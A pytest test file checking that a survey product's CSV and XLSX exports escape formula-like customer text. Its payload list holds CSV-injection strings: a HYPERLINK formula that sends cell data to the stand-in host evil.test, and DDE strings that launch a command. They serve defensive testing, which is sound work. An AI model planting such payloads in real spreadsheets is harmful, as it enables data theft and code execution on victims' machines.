"""No file the product writes runs a customer's text as a spreadsheet formula."""

import csv
import io
import random

import openpyxl
import pytest
from django.urls import reverse

from contento.accounts.roles import Role
from contento.core.spreadsheets import CsvWriter, csv_cell, is_formula_like
from contento.customers.actions import do_save_customer
from contento.surveys.actions import do_create_survey, do_set_survey_status, do_submit_response

# Every prefix a spreadsheet program may read as the start of a formula.
DANGEROUS = [
    '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_like_text_is_escaped_in_csv(text):
    assert is_formula_like(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-12.5, 3, "-12.5", "1,000", "plain", "", "a=b", None])
def test_numbers_and_plain_text_are_kept(value):
    assert not is_formula_like(value)
    assert csv_cell(value) == ("" if value is None else value)


def test_the_writer_escapes_header_rows_too():
    buffer = io.StringIO()
    CsvWriter(buffer).writerow(["=A1", "ok"])
    assert buffer.getvalue().strip() == "'=A1,ok"


def _assert_safe_csv(content: bytes, planted: list[str]) -> None:
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    dangerous = [cell for cell in cells if is_formula_like(cell)]
    assert dangerous == [], dangerous
    for text in planted:  # each planted text is there, escaped, not lost
        # Answers are trimmed when saved; attributes are kept exactly.
        assert {"'" + text, "'" + text.lstrip()} & set(cells), text


DEFINITION = {
    "title": "Export",
    "questions": [
        {"key": "nps", "type": "nps", "required": True, "text": "=cmd|' /C calc'!A0"},
        {"key": "why", "type": "text", "text": "Why?"},
        {
            "key": "items",
            "type": "matrix",
            "text": "Rate",
            "items": [
                {"key": "speed", "label": "@SUM(1)"},
                {"key": "price", "label": "Price"},
            ],
        },
    ],
}


@pytest.fixture
def planted(personas):
    survey = do_set_survey_status(do_create_survey(personas.org, DEFINITION), "live")
    rng = random.Random(1)
    for i in range(60):
        plan = DANGEROUS[i % len(DANGEROUS)]
        customer, _new = do_save_customer(
            personas.org,
            {"name": f"c{i}", "email": f"c{i}@example.net", "attributes": {"plan": plan}},
        )
        speed = rng.randint(1, 5)
        answers = {
            "nps": min(10, 2 * speed),
            "why": DANGEROUS[i % len(DANGEROUS)],
            "items": {"speed": speed, "price": rng.randint(1, 5)},
        }
        do_submit_response(survey, answers=answers, customer=customer)
    return survey


def test_every_export_escapes_every_prefix(personas, planted):
    client = personas.client(Role.OWNER)
    # With the row of question texts, whose text is dangerous too.
    exported = client.get(reverse("surveys:export_csv", args=[planted.code]), {"texts": "1"})
    content = b"".join(exported.streaming_content)
    _assert_safe_csv(content, DANGEROUS + [DEFINITION["questions"][0]["text"]])

    metric = reverse("insights:metric", args=["nps"])
    by_plan = client.get(metric, {"slice": "attribute:plan", "download": "csv", "chart": "slice"})
    assert by_plan.status_code == 200
    _assert_safe_csv(by_plan.content, DANGEROUS)

    drivers = client.get(reverse("insights:drivers", args=[planted.code]), {"download": "csv"})
    _assert_safe_csv(drivers.content, ["@SUM(1)"])


def test_the_xlsx_export_marks_formula_like_text_as_text(personas, planted):
    client = personas.client(Role.OWNER)
    exported = client.get(reverse("surveys:export_xlsx", args=[planted.code]))
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(exported.streaming_content)))
    found = set()
    for row in workbook.active.iter_rows():
        for cell in row:
            if is_formula_like(cell.value):
                assert cell.data_type == "s", cell.value
                assert cell.quotePrefix, cell.value
                found.add(cell.value)
    # The customers' words are kept (trimmed as saved), with no apostrophe added to them.
    for text in DANGEROUS:
        assert {text, text.lstrip()} & found, text
